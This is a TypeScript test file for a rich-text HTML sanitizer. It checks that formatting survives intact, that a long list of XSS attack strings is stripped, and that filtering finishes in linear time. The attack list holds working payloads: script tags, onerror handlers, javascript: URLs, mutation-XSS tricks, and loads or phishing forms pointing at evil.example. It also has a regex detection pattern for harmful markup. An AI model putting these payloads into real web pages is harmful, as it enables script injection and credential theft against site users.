import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { filterRichText } from './richTextFilter'
import { scenario } from './scenarios'
import { processorTime } from './testing/processorTime'

const dialect = [
  '',
  'plain text & more > less',
  '<p><br></p>',
  '<p>a &amp; b &lt;c&gt; &nbsp; &quot;d&quot; \u00a0 é 🧁</p>',
  '<h1>One</h1><h2>Two</h2><h3>Three</h3><h4>Four</h4><h5>Five</h5><h6>Six</h6>',
  '<p><strong>b</strong><em>i</em><u>u</u><s>s</s><b>b</b><i>i</i><sub>2</sub><sup>3</sup><code>c</code></p>',
  '<blockquote>quoted</blockquote><pre class="ql-syntax" spellcheck="false">let a = 1\n</pre>',
  '<ul><li class="ql-indent-1">a</li></ul><ol><li>b</li></ol><ul data-checked="true"><li>done</li></ul>',
  '<ol><li data-list="bullet" class="ql-indent-2">a</li><li data-list="unchecked">b</li></ol>',
  '<p><a href="https://example.org/?a=1&amp;b=2#c" rel="noopener noreferrer" target="_blank">x</a></p>',
  '<p><a href="mailto:a@example.org">m</a> <a href="tel:+4712345678">t</a> <a href="HTTP://EXAMPLE.ORG">h</a></p>',
  '<p><a href="/osn/project">relative</a><a href="#part">part</a></p>',
  '<p><img src="https://example.org/a.png" alt="A &quot;b&quot;" width="10" height="20"><img src="/uploads/1.png"></p>',
  '<iframe class="ql-video" frameborder="0" allowfullscreen="true" src="https://www.youtube.com/embed/x?showinfo=0"></iframe>',
  '<p><span style="color: rgb(230, 0, 0);">red</span><span style="background-color: #ff0; color: red">y</span></p>',
  '<p class="ql-align-center ql-direction-rtl">שלום</p><p dir="rtl" lang="he">שלום</p>',
  '<table><tbody><tr><td colspan="2" data-row="1">a</td></tr></tbody></table><hr><hr/><br />',
  "<p class='ql-align-right' >spaces and single quotes</p  >",
  '<P>UPPER</P><p>unclosed<p>paragraphs',
]

/** Attacks that browsers of some age would have carried out; none may be kept. */
const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)">',
  '<p onclick="alert(1)">x</p>',
  '<p/onclick=alert(1)>x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jAvAsCrIpT&colon;alert(1)">x</a>',
  '<a href=" &#1;javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<p><img src="data:image/png;base64,iVBORw0KGgo="></p>',
  '<img src="http://a.example/x.png">',
  '<img src="//a.example/x.png">',
  '<img src="/api/auth/verify/x">',
  '<img src="https://a.example/x.png" srcset="https://b.example/x.png 2x">',
  '<p id="root">x</p>',
  '<a name="root">x</a>',
  '<p class="bp6-overlay ql-align-center">x</p>',
  '<p role="alert">x</p>',
  '<p aria-label="x">x</p>',
  '<p data-token="x">x</p>',
  '<p contenteditable="true">x</p>',
  '<p style="margin-left: -900px">x</p>',
  '<a href="https://a.example" target="_blank">x</a>',
  '<a href="https://a.example" target="_blank" rel="opener">x</a>',
  '<a href="https://a.example" target="top" rel="noopener noreferrer">x</a>',
  '<a href="https://a.example" download="x.exe" ping="https://a.example">x</a>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>',
  '<iframe src="https://www.youtube.com@evil.example/embed/x"></iframe>',
  '<iframe src="http://www.youtube.com/embed/x"></iframe>',
  '<iframe src="https://www.youtube.com/embed/x" allow="camera"></iframe>',
  '<iframe src="https://www.youtube.com/embed/x" srcdoc="<p>x</p>"></iframe>',
  '<iframe src="https://www.youtube.com/embed/x" name="top"></iframe>',
  '<video src="https://a.example/v.mp4" autoplay></video>',
  '<picture><source srcset="https://a.example/x.png"></picture>',
  '<img src="data:text/html;base64,PHN2Zz4=">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe src="data:text/html,x"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://a.example/"><img alt="</iframe><img src=x onerror=alert(1)>"></iframe>',
  '<svg onload=alert(1)><circle/></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext></p><style><img src=x onerror=alert(1)></style></math>',
  '<style>p { background: url(https://evil.example) }</style>',
  '<link rel="stylesheet" href="https://evil.example"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name="password"><button>Log in</button></form>',
  '<object data="https://evil.example"></object><embed src="https://evil.example">',
  '<p style="background-image: url(https://evil.example/x)">x</p>',
  '<p style="position: fixed; inset: 0; color: red">x</p>',
  '<span style="color: expression(alert(1))">x</span>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- a --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<?xml ?><img src=x onerror=alert(1)>',
  '<textarea><img alt="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<p title="</p><img src=x onerror=alert(1)>">x</p>',
  '<img src="https://a.example/" alt="<img src=x onerror=alert(1)>',
  '<img src=x onerror=alert(1) ',
  '<<script>alert(1)//<</script>',
  '<video src=x onerror=alert(1)></video><audio onloadstart=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<template><img src=x onerror=alert(1)></template>',
]

const harmful =
  /<(?:script|style|svg|math|form|input|button|object|embed|link|meta|base|textarea|noscript|template)\b|\son\w+\s*=|javascript:|vbscript:|data:(?!image\/(?:png|jpe?g|gif|webp|avif);)|url\(|expression|position|srcdoc|<!|<\?/i

/** The text without quoted attribute values, in which nothing but an address can do harm. */
const withoutWords = (html: string): string =>
  html.replace(/\b(?:alt|title)="[^"<>]*"/g, '').replace(/&lt;.*/g, '')

describe('rich text', () => {
  it.each(dialect)('stays the very same string: %s', (html) => {
    expect(filterRichText(html)).toBe(html)
  })

  it('stays the same in all of the small scenario', () => {
    const { projects, articles } = scenario('small')
    for (const { description, deploymentInstructions } of projects)
      expect([description, deploymentInstructions].map(filterRichText)).toEqual([
        description,
        deploymentInstructions,
      ])
    for (const { content } of articles) expect(filterRichText(content)).toBe(content)
  })

  it.each(attacks)('loses what could do harm: %s', (attack) => {
    for (const html of [attack, `<p>before</p>${attack}<p>after</p>`, `<ul><li>${attack}</li></ul>`]) {
      const filtered = filterRichText(html)
      expect(filtered).not.toBe(html)
      expect(withoutWords(filtered)).not.toMatch(harmful)
      expect(filterRichText(filtered), 'a second time changes nothing').toBe(filtered)
    }
  })

  it('keeps the rest when a part is dropped', () => {
    expect(filterRichText('<h2>a</h2><p onclick="x()">b <strong>c</strong></p><script>d</script>')).toBe(
      '<h2>a</h2><p>b <strong>c</strong></p>',
    )
    expect(filterRichText('<p style="color: red; position: fixed">x</p>')).toBe('<p style="color: red">x</p>')
    expect(filterRichText('<a href="https://a.example" target="_blank">x</a>')).toBe(
      '<a href="https://a.example" target="_blank" rel="noopener noreferrer">x</a>',
    )
    expect(filterRichText('<a href="https://a.example" target="_blank" rel="opener nofollow">x</a>')).toBe(
      '<a href="https://a.example" target="_blank" rel="nofollow noopener noreferrer">x</a>',
    )
    expect(filterRichText('<p class="lead ql-align-right">a<img src="data:image/png;base64,AA">b</p>')).toBe(
      '<p class="ql-align-right">ab</p>',
    )
    expect(filterRichText('<marquee>words stay</marquee>')).toBe('words stay')
    expect(filterRichText('a < b and c > d')).toBe('a &lt; b and c &gt; d')
  })

  it.each([
    ['<', (part: number) => '<'.repeat(300_000 * part)],
    ['attributes', (part: number) => `<p ${'a="b" '.repeat(100_000 * part)}`],
    ['ends of elements', (part: number) => '</div>'.repeat(150_000 * part)],
    ['line breaks, deep down', (part: number) => `${'<div>'.repeat(499)}${'<br>'.repeat(200_000 * part)}`],
    ['paragraphs', (part: number) => '<p>paragraph</p>'.repeat(60_000 * part)],
    ['styles', (part: number) => `<p style="${'color:red;'.repeat(50_000 * part)}">x</p>`],
    ['a picture', (part: number) => `<img src="data:image/png;base64,${'A'.repeat(700_000 * part)}">`],
    ['words', (part: number) => `<p>${'words and <b>more</b> '.repeat(30_000 * part)}</p>`],
  ])('is filtered in time that grows with its length: %s', (_, textOf) => {
    filterRichText(textOf(0.01))
    const [some, all] = [0.25, 1].map((part) => processorTime(() => filterRichText(textOf(part))))
    // Four times as much: what grows with the square takes sixteen times as long. Little time says nothing.
    expect(all).toBeLessThan(10 * Math.max(some!, 30))
  })

  it('is refused when it is nested deeper than anybody writes', () => {
    for (const html of ['<div>'.repeat(501), '<p '.repeat(200_000), '<b>x'.repeat(100_000)])
      expect(() => filterRichText(html)).toThrow('The text is nested too deeply: 500 levels at most')
  })

  it('is harmless after filtering, whatever it was', () => {
    const piece = fc.oneof(
      fc.constantFrom(...attacks, ...dialect),
      fc.constantFrom(
        '<',
        '>',
        '"',
        "'",
        '</',
        '/>',
        '<!--',
        '-->',
        '<p ',
        '=',
        ' onerror=alert(1) ',
        '&lt;',
        '\0',
        '`',
      ),
      fc.string({ maxLength: 5 }),
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 6 }), (pieces) => {
        const html = pieces.join('')
        const filtered = filterRichText(html)
        const tags = filtered.match(/<[^>]*>/g) ?? []
        for (const tag of tags) expect(withoutWords(tag)).not.toMatch(harmful)
        expect(filterRichText(filtered)).toBe(filtered)
      }),
      { numRuns: 3000 },
    )
  })
})
